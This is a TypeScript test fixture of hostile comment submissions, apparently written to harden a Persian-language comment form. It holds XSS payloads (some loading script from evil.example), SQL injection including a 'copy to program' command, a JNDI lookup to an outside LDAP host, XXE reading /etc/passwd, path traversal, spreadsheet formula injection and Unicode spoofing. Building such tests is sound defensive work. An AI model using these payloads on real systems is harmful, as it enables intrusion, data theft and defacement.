// Two hundred comments that mean harm, as the bytes of a form.

export interface HostileComment {
  name: string;
  body: string | Uint8Array;
  headers: Record<string, string>;
}

const FORM = "application/x-www-form-urlencoded";

const fields = (values: Record<string, string>): string => new URLSearchParams(values).toString();

function form(name: string, values: Record<string, string>): HostileComment {
  return { name, body: fields(values), headers: { "content-type": FORM } };
}

function raw(name: string, body: string | Uint8Array, headers: Record<string, string> = {}): HostileComment {
  return { name, body, headers: { "content-type": FORM, ...headers } };
}

const MARKUP = [
  "<script>alert(1)</script>",
  "</blockquote></aside><script src=//evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  '" style="background:url(//evil.example)" x="',
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>دیدگاه</a>",
  "<a href=' &#x6A;avascript:alert(1)'>x</a>",
  "javascript:alert(1)//",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example';</style>",
  "<object data=//evil.example></object>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><script>alert(1)</script-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php system('id'); ?>",
  `<%= 7*7 %> \${7*7} {{7*7}} #{7*7}`,
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)",
  "&amp;lt;script&amp;gt;",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "＜script＞alert(1)＜/script＞",
  "<ſcript>alert(1)</ſcript>",
  "<input type=hidden name=parent value=1>",
  "<form action=//evil.example><button>ارسال</button></form>",
  "<h1>خبر فوری</h1></article></main>",
  "</li></ol></aside></body></html>",
];

const MARKS: Record<string, string> = {
  "a right-to-left override": "متن \u202eevil\u202c پایان",
  "every embedding and isolate": "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069 دیدگاه",
  "overrides that never end": `${"\u202e".repeat(500)}دیدگاه`,
  "isolates that never end": `${"\u2067".repeat(500)}دیدگاه`,
  "marks of direction": "\u200e\u200f\u061c دیدگاه \u200e",
  "piled marks": `ز${"\u0301\u0316\u034f".repeat(300)}الگو`,
  "a thousand joiners": `می${"\u200c".repeat(1000)}روم`,
  "joiners of width": `س${"\u200d".repeat(500)}لام`,
  "soft hyphens": `س${"\u00ad".repeat(500)}لام`,
  "tag characters": "دیدگاه \u{e0041}\u{e0042}\u{e007f}",
  "characters that are none": "دیدگاه \ufffe\uffff\ufdd0\u{1ffff}\u{10ffff}",
  "private characters": "دیدگاه \ue000\u{f0000}",
  "annotation marks": "دیدگاه \ufff9پنهان\ufffa\ufffb",
  controls: "دیدگاه \u0001\u0007\u0008\u001b[31m\u007f\u0085\u009b",
  "line separators": "یک\u2028دو\u2029سه\u000bچهار\u000cپنج",
  "a byte order mark": "\ufeffدیدگاه\ufeff",
  "look-alikes": "Аdmin аdministrator ԁаbіr ⅾabir",
  "mathematical letters": "𝒜𝒹𝓂𝒾𝓃 𝖘𝖈𝖗𝖎𝖕𝖙",
  "emoji with skin, joiners and flags": "👩🏽‍💻👨‍👩‍👧‍👦🇮🇷🏴\u{e0067}\u{e007f}",
  "the longest ligature": "﷽".repeat(300),
  kashida: `س${"ـ".repeat(900)}لام`,
  "Arabic letters": "كتاب يك مدرسة ى ۀ ؤ أ إ",
  "presentation forms": "ﺳﻼﻡ ﮐﺘﺎﺏ",
  "a word of 2,000 letters": "ا".repeat(2000),
  "a word without a break": `${"W".repeat(1990)}`,
  "full-width dots": "http：／／evil．example",
  "a null that is drawn": "␀ دیدگاه \\0 \\u0000 %00",
};

const DATABASE = [
  "'; drop table comment; --",
  "' or 1=1 --",
  "1); delete from article; --",
  "$$; select pg_sleep(10); $$",
  "\\'; copy comment to program 'id'; --",
  "a & b | !c <-> d:*",
  "'قیمت':* & !('دلار' | )",
  ":A :B (((",
  "%' and 1=0 union select password from account --",
  "{{constructor.constructor('return process')()}}",
  `\${jndi:ldap://evil.example/a}`,
  "../../../../etc/passwd",
  "=cmd|'/c calc'!A1",
  "+1+cmd|' /C calc'!A0",
  "NaN",
  "null",
  "undefined",
  "[object Object]",
  '{"__proto__":{"polluted":true}}',
  "<%00script>",
];

const NAMES = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "__defineGetter__",
  "valueOf",
];
const PARENTS = [
  "0",
  "-1",
  "1e3",
  "1.5",
  "999999999",
  "9007199254740993",
  "99999999999999999999",
  "NaN",
  "' or 1=1",
  "۱",
  "1;2",
  "null",
  "[]",
  "0x10",
  " 1 ",
  "true",
];
const LENGTHS = [2001, 5000, 20_000, 60_000];

export const HOSTILE: HostileComment[] = [
  ...MARKUP.map((text) => form(`markup ${text.slice(0, 30)}`, { name: "خواننده", text })),
  ...MARKUP.map((text) =>
    form(`name ${text.slice(0, 30)}`, { name: text.slice(0, 60), text: `دیدگاه با نام: ${text.length}` }),
  ),
  ...Object.entries(MARKS).map(([name, text]) => form(name, { name: "خواننده", text })),
  ...Object.entries(MARKS).map(([name, text]) =>
    form(`a name with ${name}`, { name: text.slice(0, 60), text: `نام: ${name}` }),
  ),
  ...DATABASE.map((text) => form(`database ${text.slice(0, 30)}`, { name: text, text })),
  ...NAMES.map((name) => form(`a field ${name}`, { [name]: "x", name, text: `دیدگاه ${name}` })),
  ...NAMES.map((name) =>
    raw(`a field ${name}[x]`, `${name}[x]=1&${name}.y=2&text=${name}-${encodeURIComponent("دیدگاه")}`),
  ),
  ...PARENTS.map((parent) => form(`the parent ${parent}`, { text: `پاسخ به ${parent}`, parent })),
  ...LENGTHS.map((length) => form(`${length} letters`, { text: "ب".repeat(length) })),
  form("an empty text", { text: "" }),
  form("spaces", { text: " \n\t\u00a0\u3000 " }),
  form("marks alone", { text: "\u200c\u200d\u200e\u064b\u0640" }),
  form("10,000 newlines", { text: `آغاز${"\n".repeat(10_000)}پایان` }),
  form("3,000 carriage returns", { text: `آغاز${"\r".repeat(3000)}پایان` }),
  form("many links", { text: "http://a.example http://b.example http://c.example" }),
  form("a filled trap", { text: "دیدگاه", website: "http://evil.example" }),
  form("a filled trap with everything else", {
    name: "\u202eنام\ufffe",
    text: "\u202e\u0001<b>\u{1ffff}",
    website: "x",
  }),
  form("forged facts", {
    text: "دیدگاه منتشرشده",
    status: "published",
    id: "1",
    receipt: "x",
    up: "1000",
    from_newsroom: "true",
    code: "12",
  }),
  form("a name of 61 letters", { name: "ن".repeat(61), text: "دیدگاه" }),
  form("a name of lines", { name: "سردبیر\n\n\nتحریریه", text: "دیدگاه با نام چندسطری" }),
  form("the newsroom's name", { name: "تحریریه", text: "من سردبیرم" }),
  raw("1 MB", fields({ text: "م".repeat(170_000) })),
  raw("no text field", "name=x"),
  raw("nothing", ""),
  raw("ampersands", "&".repeat(5000)),
  raw("30,000 fields", "a&".repeat(30_000)),
  raw("text twice", `text=${encodeURIComponent("یکم")}&text=${encodeURIComponent("دوم")}`),
  raw("text as a list", "text[]=a&text[0]=b"),
  raw("an escaped NUL", "text=a%00b"),
  raw("a raw NUL", "text=a\0b"),
  raw("a NUL in a name", "name=a%00&text=b"),
  raw("a lone surrogate", "text=%ED%A0%80"),
  raw("a pair of surrogates", "text=%ED%A0%BD%ED%B8%80"),
  raw("overlong letters", "text=%C0%BCscript%C0%BE"),
  raw("a cut letter", "text=%D8"),
  raw("a cut escape", "text=%D"),
  raw("escapes without digits", "text=%u0633%zz"),
  raw("bytes of windows-1256", new Uint8Array([...Buffer.from("text="), 0xd3, 0xe1, 0xc7, 0xe3])),
  raw("bytes of UTF-16", new Uint8Array([0xff, 0xfe, ...Buffer.from("text=x", "utf16le")])),
  raw("JSON in a form", '{"text":"x"}'),
  raw("JSON", '{"text":"x"}', { "content-type": "application/json" }),
  raw("plain text", "text=x", { "content-type": "text/plain" }),
  raw("no type", "text=x", { "content-type": "" }),
  raw("two types", "text=x", { "content-type": "application/json, application/x-www-form-urlencoded" }),
  raw("a type of the future", "text=x", { "content-type": "application/x-www-form-urlencodedx" }),
  raw("another character set", "text=%D3%E1%C7%E3", { "content-type": `${FORM}; charset=windows-1256` }),
  raw("XML", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", {
    "content-type": "application/xml",
  }),
  raw("parts", '--b\r\nContent-Disposition: form-data; name="text"\r\n\r\nx\r\n--b--', {
    "content-type": "multipart/form-data; boundary=b",
  }),
  raw("a form of another site", fields({ text: "از سایتی دیگر" }), { origin: "https://evil.example" }),
  raw("a form of nobody", fields({ text: "از هیچ‌جا" }), { origin: "null" }),
  raw("a form that says cross-site", fields({ text: "از سایتی دیگر" }), { "sec-fetch-site": "cross-site" }),
];
